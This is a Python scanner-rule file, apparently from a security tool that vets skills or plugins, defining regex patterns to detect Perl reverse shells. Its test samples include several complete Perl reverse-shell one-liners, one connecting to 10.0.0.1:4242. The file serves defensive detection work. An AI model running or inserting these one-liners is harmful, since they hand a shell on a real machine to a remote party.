"""A Perl socket becomes the input and output of a shell."""

from __future__ import annotations

from symbi.contracts.scanner import Nearby, Pattern, ScannerRule

RULE = ScannerRule(
    id="reverse-shell-perl",
    category="reverse-shell",
    severity="critical",
    message="Connects a shell to a network socket in Perl",
    check=(
        Pattern(r"\bperl\b.*socket.*\b(?:exec|system)\b.*/(?:ba|z|da)?sh\b"),
        Pattern(r"\bperl\b.*\bIO(?:::Socket)?\b.*\bINET\b.*(?:\b(?:exec|system)\b|system\$_)"),
        Nearby(
            (
                r"\buse\s+(?:IO::)?Socket\b",
                r"\b(?:connect|INET)\b",
                r"\b(?:exec|system)\b\W{0,4}(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh\b",
            ),
            within=20,
        ),
    ),
    bad=(
        """perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'""",
        """PERL -MSocket -e 'socket(S,2,1,6);EXEC("/BIN/SH")'""",
        """perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);system$_ while<>;'""",
        'use Socket;\nconnect(S, sockaddr_in($p, $i));\nexec("/bin/sh -i");',
    ),
    good=("perl -MIO::Socket::SSL -e 'print $IO::Socket::SSL::VERSION'", "perl -e 'exec(\"/bin/date\")'"),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/",),
    tags=("network", "execute"),
)
